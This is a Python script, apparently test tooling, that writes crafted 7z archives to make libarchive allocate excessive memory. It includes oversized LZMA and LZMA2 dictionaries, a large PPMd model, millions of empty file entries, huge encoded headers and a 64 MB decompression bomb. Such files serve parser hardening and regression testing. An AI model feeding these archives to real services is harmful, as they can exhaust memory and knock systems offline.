"""Writes a 7z archive that would make libarchive allocate much memory: `hostile_7z.py FORM`."""

import lzma
import struct
import sys
import zlib


def number(value):
    """The lowest bytes follow; the leading ones of the first byte count them."""
    for count in range(8):
        if value < 1 << (7 * (count + 1)):
            first = 0xFF00 >> count & 0xFF | value >> (8 * count)
            return bytes([first]) + (value & (1 << 8 * count) - 1).to_bytes(count, "little")
    return b"\xff" + value.to_bytes(8, "little")


def archive(header, packed):
    start = struct.pack("<QQI", len(packed), len(header), zlib.crc32(header))
    return (b"7z\xbc\xaf\x27\x1c\0\4" + struct.pack("<I", zlib.crc32(start)) + start + packed
            + header)


def streams(method, properties, packed, size):
    coder = bytes([0x20 | len(method)]) + method + number(len(properties)) + properties
    return (b"\6" + number(0) + number(1) + b"\x09" + number(len(packed)) + b"\0"
            + b"\7\x0b" + number(1) + b"\0" + number(1) + coder + b"\x0c" + number(size) + b"\0")


def file(method, properties, packed, size):
    """An archive with one file."""
    name = "ticket.pkpass".encode("utf-16-le") + b"\0\0"
    return archive(
        b"\1\4" + streams(method, properties, packed, size) + b"\x08\0\0"
        + b"\5" + number(1) + b"\x11" + number(len(name) + 1) + b"\0" + name + b"\0\0", packed)


def many(count):
    """Empty files without names, each described by one bit."""
    bits = bytearray(b"\xff" * ((count + 7) // 8))
    bits[0] = 0x7F
    return (b"\1\4" + streams(b"\0", b"", b"x", 1) + b"\x08\0\0" + b"\5" + number(count)
            + b"\x0e" + number(len(bits)) + bytes(bits) + b"\0\0")


def encoded(header, dictionary=1 << 20):
    """The header, compressed."""
    data = lzma.compress(header, format=lzma.FORMAT_ALONE, preset=0)
    properties = data[:1] + struct.pack("<I", dictionary)
    return archive(
        b"\x17" + streams(b"\3\1\1", properties, data[13:], len(header)) + b"\0", data[13:])


def zeros(size, dictionary):
    """LZMA data, which is the same for each size of a dictionary."""
    data = lzma.compress(bytes(size), format=lzma.FORMAT_ALONE, preset=0)
    return data[:1] + struct.pack("<I", dictionary), data[13:]


FORMS = {
    "intact": lambda: file(b"\3\1\1", *zeros(1000, 1 << 20), 1000),
    "dictionary": lambda: file(b"\3\1\1", *zeros(1000, 0xFFFFFFFF), 1000),
    "dictionaryOfLZMA2": lambda: file(b"\x21", b"\x28", b"\0", 1),
    "model": lambda: file(b"\3\4\1", b"\x06\0\0\0\x80", b"\0", 1),
    "files": lambda: archive(many(20_000_000), b"x"),
    "encodedFiles": lambda: encoded(many(40_000_000)),
    "encodedDirectory": lambda: encoded(bytes(70 << 20)),
    "headerDictionary": lambda: encoded(many(8), 0xFFFFFFFF),
    "bomb": lambda: file(b"\3\1\1", *zeros(64 << 20, 1 << 20), 64 << 20),
    "encodedTwice": lambda: encoded(encoded(many(8))[-60:]),
}
sys.stdout.buffer.write(FORMS[sys.argv[1]]())
